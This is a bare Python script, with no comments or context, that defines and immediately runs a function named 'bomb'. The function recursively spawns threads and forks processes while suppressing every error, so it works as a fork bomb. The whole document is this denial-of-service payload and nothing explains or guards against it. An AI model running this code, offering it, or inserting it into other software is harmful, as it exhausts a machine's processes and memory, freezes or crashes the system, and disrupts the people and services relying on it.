import os, threading
def bomb():
    for _ in range(20):
        try: threading.Thread(target=bomb).start()
        except Exception: pass
    try: os.fork()
    except Exception: pass
bomb()
